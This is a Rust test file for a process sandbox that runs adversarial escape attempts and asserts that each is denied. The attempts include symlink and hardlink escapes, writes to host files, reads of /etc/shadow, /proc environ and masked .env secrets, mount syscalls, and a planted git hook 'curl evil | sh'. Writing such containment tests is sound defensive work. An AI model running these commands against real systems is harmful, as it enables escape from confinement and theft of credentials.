//! Filesystem containment: nothing outside the workspace (and the private
//! temporary directories) can be written, hidden paths are gone, masked files are
//! unreadable — and each case checks the host afterwards.

use std::os::unix::fs::PermissionsExt;

use io_harness_sandbox::Sandbox;

use crate::common::*;

/// The adversary failed with one of the errors a confined write produces.
fn assert_denied(code: Option<i32>, err: &str) {
    assert_ne!(code, Some(0), "the adversary succeeded; stderr: {err}");
    let known = [
        "Read-only file system",
        "Permission denied",
        "Operation not permitted",
        "No such file or directory",
        // dash, for a parent directory that is absent from the view
        "Directory nonexistent",
        "Invalid cross-device link",
        "Device or resource busy",
    ];
    assert!(
        known.iter().any(|k| err.contains(k)),
        "unexpected error: {err}"
    );
}

fn write_outside_workdir(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let target = f.host_path("new-file");
    let spec = f.spec(sh(&format!(
        "echo pwned > {} && echo WROTE",
        target.display()
    )));
    let (code, out, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    assert!(!out.contains("WROTE"));
    assert!(!target.exists(), "a file appeared outside the workspace");
}
backends!(write_outside_workdir, [native, floor]);

/// A directory named in `writable_paths` (a gate's report directory) is writable,
/// and only it: its parent and siblings stay as closed as the rest of the host.
fn writable_path_and_nothing_beside_it(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let dir = f.host_path("report");
    std::fs::create_dir(&dir).unwrap();
    let mut spec = f.spec(sh(&format!(
        "echo '<testsuites/>' > {}/r.xml && echo WROTE",
        dir.display()
    )));
    spec.writable_paths.push(dir.clone());
    let (code, out, err) = run_text(sb, &spec);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("WROTE"));
    assert_eq!(
        std::fs::read_to_string(dir.join("r.xml")).unwrap(),
        "<testsuites/>\n"
    );
    let beside = f.host_path("beside");
    spec.argv = sh(&format!("echo pwned > {}", beside.display()));
    let (code, _, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    assert!(
        !beside.exists(),
        "a file appeared beside the writable directory"
    );
    f.assert_canary();
}
backends!(writable_path_and_nothing_beside_it, [native, floor]);

fn overwrite_host_file(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let spec = f.spec(sh(&format!("echo pwned > {}", f.canary().display())));
    let (code, _, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    f.assert_canary();
}
backends!(overwrite_host_file, [native, floor]);

fn truncate_host_file(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let spec = f.spec(vec![
        "truncate".into(),
        "-s0".into(),
        f.canary().display().to_string(),
    ]);
    let (code, _, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    f.assert_canary();
}
backends!(truncate_host_file, [native, floor]);

fn chmod_host_file(sb: &dyn Sandbox) {
    let f = Fixture::new();
    std::fs::set_permissions(f.canary(), std::fs::Permissions::from_mode(0o644)).unwrap();
    let spec = f.spec(vec![
        "chmod".into(),
        "0777".into(),
        f.canary().display().to_string(),
    ]);
    let (code, _, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    let mode = std::fs::metadata(f.canary()).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o644);
}
// The floor cannot stop this: Landlock does not mediate chmod/chown/utimes, so a
// file the user owns outside the workspace keeps its data but not its metadata.
backends!(chmod_host_file, [native]);

fn delete_host_file(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let spec = f.spec(vec!["rm".into(), f.canary().display().to_string()]);
    let (code, _, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    f.assert_canary();
}
backends!(delete_host_file, [native, floor]);

fn rename_out_of_workdir(sb: &dyn Sandbox) {
    let f = Fixture::new();
    std::fs::write(f.workdir().join("doc"), "mine").unwrap();
    let dest = f.host_path("moved");
    let spec = f.spec(sh(&format!("mv doc {}", dest.display())));
    let (code, _, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    assert!(!dest.exists(), "the file was moved out");
    assert_eq!(
        std::fs::read_to_string(f.workdir().join("doc")).unwrap(),
        "mine"
    );
}
backends!(rename_out_of_workdir, [native, floor]);

fn planted_file_symlink(sb: &dyn Sandbox) {
    let f = Fixture::new();
    std::os::unix::fs::symlink(f.canary(), f.workdir().join("link")).unwrap();
    let (code, _, err) = run_text(sb, &f.spec(sh("echo pwned > link")));
    assert_denied(code, &err);
    f.assert_canary();
}
backends!(planted_file_symlink, [native, floor]);

fn planted_dir_symlink(sb: &dyn Sandbox) {
    let f = Fixture::new();
    std::os::unix::fs::symlink(f.host.path(), f.workdir().join("dlink")).unwrap();
    let (code, _, err) = run_text(sb, &f.spec(sh("echo pwned > dlink/new")));
    assert_denied(code, &err);
    assert!(!f.host_path("new").exists());
}
backends!(planted_dir_symlink, [native, floor]);

fn dangling_symlink_create(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let target = f.host_path("created-through-link");
    std::os::unix::fs::symlink(&target, f.workdir().join("dangling")).unwrap();
    let (code, _, err) = run_text(sb, &f.spec(sh("echo pwned > dangling")));
    assert_denied(code, &err);
    assert!(!target.exists(), "O_CREAT followed the planted link");
}
backends!(dangling_symlink_create, [native, floor]);

fn hardlink_host_file_then_write(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let spec = f.spec(sh(&format!(
        "ln {} hl && echo pwned >> hl",
        f.canary().display()
    )));
    let (code, _, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    f.assert_canary();
}
backends!(hardlink_host_file_then_write, [native, floor]);

fn git_internals_read_only(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let git = f.workdir().join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::write(git.join("config"), "[core]\n").unwrap();
    let spec = f.spec(sh("echo 'curl evil | sh' > .git/hooks/pre-commit; \
         printf '[core]\\nfsmonitor = evil\\n' >> .git/config; \
         mv .git .git-old; echo done"));
    let (_, out, err) = run_text(sb, &spec);
    assert!(out.contains("done"));
    assert!(err.matches("Read-only file system").count() >= 2, "{err}");
    assert!(err.contains("busy") || err.contains("Read-only"), "{err}");
    assert!(!git.join("hooks/pre-commit").exists(), "a hook was planted");
    assert_eq!(
        std::fs::read_to_string(git.join("config")).unwrap(),
        "[core]\n"
    );
    assert!(git.is_dir() && !f.workdir().join(".git-old").exists());
}
backends!(git_internals_read_only, [native]);

fn io_harness_dir_read_only(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let dir = f.workdir().join(".io-harness");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("policy.toml"), "rules = []\n").unwrap();
    let spec = f.spec(sh(
        "echo 'allow = \"*\"' >> .io-harness/policy.toml; rm -rf .io-harness; echo x > ok",
    ));
    let (_, _, err) = run_text(sb, &spec);
    assert!(
        err.contains("Read-only file system") || err.contains("busy"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("policy.toml")).unwrap(),
        "rules = []\n"
    );
    assert_eq!(
        std::fs::read_to_string(f.workdir().join("ok")).unwrap(),
        "x\n"
    );
}
backends!(io_harness_dir_read_only, [native]);

fn masked_file_unreadable(sb: &dyn Sandbox) {
    let f = Fixture::new();
    std::fs::write(
        f.workdir().join(".env"),
        "OPENAI_API_KEY=sk-masked-secret\n",
    )
    .unwrap();
    let mut spec = f.spec(sh("cat .env; echo ---; cat ./.env 2>&1; echo more >> .env"));
    spec.masked_paths = vec![".env".into()];
    let out = run(sb, &spec);
    assert!(
        !out.stdout.text().contains("sk-masked-secret"),
        "{}",
        out.stdout.text()
    );
    assert!(
        out.stderr.text().contains("Permission denied"),
        "{}",
        out.stderr.text()
    );
    let masked = &out.layers.mounts.as_ref().unwrap().masked;
    assert_eq!(
        masked,
        &[std::fs::canonicalize(f.workdir().join(".env")).unwrap()]
    );
    assert_eq!(
        std::fs::read_to_string(f.workdir().join(".env")).unwrap(),
        "OPENAI_API_KEY=sk-masked-secret\n"
    );
}
backends!(masked_file_unreadable, [native]);

fn masked_dir_unreadable(sb: &dyn Sandbox) {
    let f = Fixture::new();
    std::fs::create_dir(f.workdir().join("secrets")).unwrap();
    std::fs::write(f.workdir().join("secrets/key"), "topsecret").unwrap();
    let mut spec = f.spec(sh("ls secrets; cat secrets/key"));
    spec.masked_paths = vec![f.workdir().join("secrets")];
    let (code, out, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    assert!(!out.contains("topsecret") && !out.contains("key"), "{out}");
    assert_eq!(
        std::fs::read_to_string(f.workdir().join("secrets/key")).unwrap(),
        "topsecret"
    );
}
backends!(masked_dir_unreadable, [native]);

fn host_home_hidden(sb: &dyn Sandbox) {
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    let name = unique("home-canary");
    let file = home.join(&name);
    std::fs::write(&file, "ssh-private-key").unwrap();
    let f = Fixture::new();
    let spec = f.spec(sh(&format!(
        "cat {}; echo HOME=$HOME; ls -a $HOME",
        file.display()
    )));
    let (_, out, err) = run_text(sb, &spec);
    let _ = std::fs::remove_file(&file);
    assert!(err.contains("No such file"), "{err}");
    assert!(
        !out.contains("ssh-private-key") && !out.contains(&name),
        "{out}"
    );
}
backends!(host_home_hidden, [native]);

/// The store, the audit log, the caches: anything outside the allowlist is absent,
/// with no list naming it.
fn host_dirs_outside_the_view_absent(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let store = f.host_path("store");
    std::fs::create_dir(&store).unwrap();
    std::fs::write(store.join("store.db"), "trace with secrets").unwrap();
    let spec = f.spec(sh(&format!("ls {0}; cat {0}/store.db", store.display())));
    let (code, out, err) = run_text(sb, &spec);
    assert_denied(code, &err);
    assert!(err.contains("No such file"), "{err}");
    assert!(
        !out.contains("store.db") && !out.contains("secrets"),
        "{out}"
    );
    assert_eq!(
        std::fs::read_to_string(store.join("store.db")).unwrap(),
        "trace with secrets"
    );
}
backends!(host_dirs_outside_the_view_absent, [native]);

fn root_only_host_files(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let (_, out, err) = run_text(sb, &f.spec(sh("cat /etc/shadow")));
    assert!(!out.contains("root:"), "{out}");
    assert!(
        err.contains("Permission denied") || err.contains("No such file"),
        "{err}"
    );
}
backends!(root_only_host_files, [native]);

fn harness_environ_unreadable(sb: &dyn Sandbox) {
    let f = Fixture::new();
    // Native: pid 1 is the sandbox's init, a copy of the harness; floor: the parent.
    let spec = f.spec(sh("cat /proc/1/environ; cat /proc/$PPID/environ"));
    let (_, out, err) = run_text(sb, &spec);
    assert!(
        !out.contains("CARGO_PKG_NAME"),
        "the harness environment leaked"
    );
    assert!(err.contains("Permission denied"), "{err}");
}
backends!(harness_environ_unreadable, [native, floor]);

fn proc_sys_write(sb: &dyn Sandbox) {
    let f = Fixture::new();
    // Write back the current value: harmless even if it went through.
    let code = "p='/proc/sys/kernel/core_pattern'\n\
                v=open(p).read()\n\
                try:\n  open(p,'w').write(v); print('WROTE')\n\
                except OSError as e: print('ERR', e.errno)";
    let before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    let (_, out, _) = run_text(sb, &f.spec(py(code)));
    assert!(out.starts_with("ERR"), "{out}");
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(),
        before
    );
}
backends!(proc_sys_write, [native, floor]);

fn cgroup_fs_write(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let dir = format!("/sys/fs/cgroup/pids/{}", unique("escape"));
    let (code, _, err) = run_text(sb, &f.spec(vec!["mkdir".into(), dir.clone()]));
    assert_denied(code, &err);
    assert!(!std::path::Path::new(&dir).exists());
}
backends!(cgroup_fs_write, [native, floor]);

fn device_node_creation(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let code = "import os,stat\n\
                try:\n  os.mknod('mem', stat.S_IFCHR|0o666, os.makedev(1,1)); print('MADE')\n\
                except OSError as e: print('ERR', e.errno)";
    let (_, out, _) = run_text(sb, &f.spec(py(code)));
    assert!(out.starts_with("ERR"), "{out}");
    assert!(!f.workdir().join("mem").exists());
}
backends!(device_node_creation, [native, floor]);

fn mount_family_denied(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let code = "import ctypes,os\n\
                libc=ctypes.CDLL(None,use_errno=True)\n\
                r=libc.mount(b'none',b'/mnt',b'tmpfs',0,None); print('mount',r,ctypes.get_errno())\n\
                r=libc.syscall(430,b'tmpfs',0); print('fsopen',r,ctypes.get_errno())\n\
                r=libc.syscall(428,-100,b'/',1); print('open_tree',r,ctypes.get_errno())\n\
                r=libc.syscall(155,b'.',b'.'); print('pivot_root',r,ctypes.get_errno())";
    let (_, out, _) = run_text(sb, &f.spec(py(code)));
    for call in ["mount", "fsopen", "open_tree", "pivot_root"] {
        assert!(
            out.contains(&format!("{call} -1 1\n")),
            "{call} not refused with EPERM: {out}"
        );
    }
}
backends!(mount_family_denied, [native, floor]);

fn workspace_and_private_dirs_writable(sb: &dyn Sandbox) {
    let f = Fixture::new();
    let spec = f.spec(sh(
        "set -e; echo data > out.txt; mkdir -p sub; mv out.txt sub/; \
         echo t > $TMPDIR/x; echo h > $HOME/y; cat $TMPDIR/x $HOME/y sub/out.txt",
    ));
    let (code, out, err) = run_text(sb, &spec);
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(out, "t\nh\ndata\n");
    assert_eq!(
        std::fs::read_to_string(f.workdir().join("sub/out.txt")).unwrap(),
        "data\n"
    );
}
backends!(workspace_and_private_dirs_writable, [native, floor]);

fn workdir_inside_hidden_tmp(sb: &dyn Sandbox) {
    let work = tempfile::Builder::new()
        .prefix("iohx-tmpwork-")
        .tempdir_in("/tmp")
        .unwrap();
    let sibling = tempfile::Builder::new()
        .prefix("iohx-sibling-")
        .tempdir_in("/tmp")
        .unwrap();
    let mut spec = io_harness_sandbox::RunSpec::new(
        sh(&format!("echo ok > made; ls {}", sibling.path().display())),
        work.path(),
    );
    spec.limits = test_limits();
    let (code, _, err) = run_text(sb, &spec);
    assert_ne!(code, Some(0));
    assert!(
        err.contains("No such file"),
        "the sibling in /tmp is visible: {err}"
    );
    assert_eq!(
        std::fs::read_to_string(work.path().join("made")).unwrap(),
        "ok\n"
    );
}
backends!(workdir_inside_hidden_tmp, [native]);

fn only_toolchain_parts_of_home_come_back(sb: &dyn Sandbox) {
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    if !home.join(".cargo/bin").is_dir() {
        return;
    }
    let f = Fixture::new();
    let (_, out, _) = run_text(
        sb,
        &f.spec(sh("ls -A $HOME/.cargo; touch $HOME/.cargo/bin/x 2>&1")),
    );
    let mut listed: Vec<&str> = out
        .lines()
        .take_while(|l| !l.starts_with("touch"))
        .collect();
    listed.sort();
    let expected: Vec<&str> = ["bin", "registry"]
        .into_iter()
        .filter(|d| home.join(".cargo").join(d).is_dir())
        .collect();
    assert_eq!(
        listed, expected,
        "only bin and registry (never credentials.toml or config)"
    );
    assert!(out.contains("Read-only file system"), "{out}");
}
backends!(only_toolchain_parts_of_home_come_back, [native]);
